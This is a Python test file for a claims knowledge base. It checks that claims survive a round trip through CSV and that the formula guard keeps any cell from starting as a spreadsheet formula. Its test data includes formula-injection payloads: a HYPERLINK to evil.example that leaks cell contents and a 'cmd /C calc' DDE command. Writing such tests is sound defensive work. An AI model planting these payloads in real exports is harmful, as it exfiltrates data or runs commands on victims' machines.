"""Do claims come back from a table as they were, and does no cell of it run in a spreadsheet?"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from knowledge.claim import Appearance, Claim, Source, Speaker, Status
from knowledge.errors import UnusableFile
from knowledge.formats.claims_csv import COLUMNS, read_csv, write_csv
from knowledge.formats.formulas import guarded, unguarded
from knowledge.formats.items import FoundClaim
from knowledge.formats.jsonl import BadLine
from knowledge.formats.spreadsheet import claims_of, open_spreadsheet
from tests.knowledge_base.drawn_claims import claims


def table(*wanted: Claim) -> bytes:
    stream = io.StringIO(newline="")
    assert write_csv(wanted, stream) == len(wanted)
    return stream.getvalue().encode()


def without_null(claim: Claim) -> bool:
    return "\\u0000" not in claim.model_dump_json()


def carried(claim: Claim) -> Claim:
    """What the table has of a claim: all but its figures and its revision."""
    return claim.model_copy(update={"figures": (), "revision": 0})


@given(st.lists(claims().filter(without_null), max_size=2))
def test_claims_come_back_from_the_table_as_they_were(wanted: list[Claim]) -> None:
    assert list(read_csv(table(*wanted), "claims.csv")) == [carried(claim) for claim in wanted]


def test_every_field_of_a_claim_has_its_column_or_is_left_out_on_purpose() -> None:
    there = {column.path[0] for column in COLUMNS}
    assert set(Claim.model_fields) - there == {"figures", "revision"}
    for name, model in (("source", Source), ("speaker", Speaker)):
        inside = {column.path[1] for column in COLUMNS if column.path[0] == name}
        assert inside == set(model.model_fields)


@given(st.text())
def test_a_guard_is_taken_off_exactly_where_it_was_put_on(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))


HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "'=1+1",
    "''@x",
    "'Tis the season",
    "\uff1d1+1",
    'two\r\nlines; with "quotes", commas; and semicolons',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_as_a_formula_and_each_comes_back(text: str) -> None:
    claim = Claim(
        statement=text,
        quote=text,
        subject=text,
        places=(text, "Orsk"),
        setting=(text, "Larn"),
        speaker=Speaker(name=text, aliases=(text,)),
        source=Source(publisher=text, title=text, url=text, author=text),
        appearances=(Appearance(claim_id="1", words=text),),
    )
    written = table(claim)
    rows = csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
    assert list(read_csv(written, "x.csv")) == [claim]


def test_what_somebody_edited_is_read_as_edited() -> None:
    """Fewer columns, in another order, saved by a program that writes days in its own way."""
    edited = (
        "Status;claim;said on;Places;speaker;valid until\r\n"
        "citable;The tide was high.;15 August 2019;Orsk; Harbour Office ;2019-12-31\r\n"
        ";;;;;\r\n"
        "citable;The tide was low.;15.08.2019;Orsk; Belmore;;\r\n"
    ).encode("cp1252")
    first, second = read_csv(edited, "claims.csv")
    assert isinstance(first, Claim) and isinstance(second, Claim)
    assert (first.said_on, first.valid_until) == (date(2019, 8, 15), date(2019, 12, 31))
    assert (first.status, first.places) == (Status.CITABLE, ("Orsk",))
    assert second.said_on == date(2019, 8, 15)


@pytest.mark.parametrize(
    ("row", "says"),
    [
        ("x,soon,", "row 2 was left out: column “said on”: “soon” is no date"),
        ("x,3/4/2021,", "may be two days"),
        (",2021-01-01,", "the field “statement” is missing"),
        ("x,,somewhere", "the field “status” cannot be read"),
    ],
)
def test_a_row_that_is_no_claim_is_told_and_the_rest_goes_in(row: str, says: str) -> None:
    data = f"claim,said on,status\r\n{row}\r\nThe tide was high.,,citable\r\n".encode()
    bad, good = read_csv(data, "claims.csv")
    assert isinstance(bad, BadLine) and says in bad.why and bad.why.startswith("claims.csv, row 2")
    assert good == Claim(statement="The tide was high.", status=Status.CITABLE)


def test_a_cell_with_broken_parts_is_told() -> None:
    data = b'claim,places,starts at\r\nx,"[""Orsk",\r\ny,,two\r\n'
    assert [one.why for one in read_csv(data, "a.csv") if isinstance(one, BadLine)] == [
        "a.csv, row 2 was left out: column “places” cannot be read; give it back its former value.",
        "a.csv, row 3 was left out: column “starts at” cannot be read; give it back its former "
        "value.",
    ]


@pytest.mark.parametrize("data", [b"", b"a,b\r\n1,2\r\n", b"claim,colour\r\nx,red\r\n"])
def test_another_table_is_refused_with_the_way_to_take_it_in(data: bytes) -> None:
    with pytest.raises(UnusableFile, match="take in other spreadsheets with `verifier ingest`"):
        list(read_csv(data, "sales.csv"))


def test_the_table_can_be_taken_in_as_any_other_spreadsheet_too() -> None:
    claim = Claim(
        statement="=The tide was high.",
        speaker=Speaker(name="Harbour Office"),
        said_on=date(2019, 8, 15),
        place="Orsk",
        subject="Storm",
        source=Source(publisher="Courier", title="Tides", url="https://c.example/1"),
    )
    found = list(claims_of(open_spreadsheet(table(claim), "claims.csv"), Source()))
    (item,) = found
    assert isinstance(item, FoundClaim)
    read = item.claim
    assert (read.statement, read.said_on, read.place, read.subject, read.source) == (
        claim.statement,
        claim.said_on,
        claim.place,
        claim.subject,
        claim.source,
    )
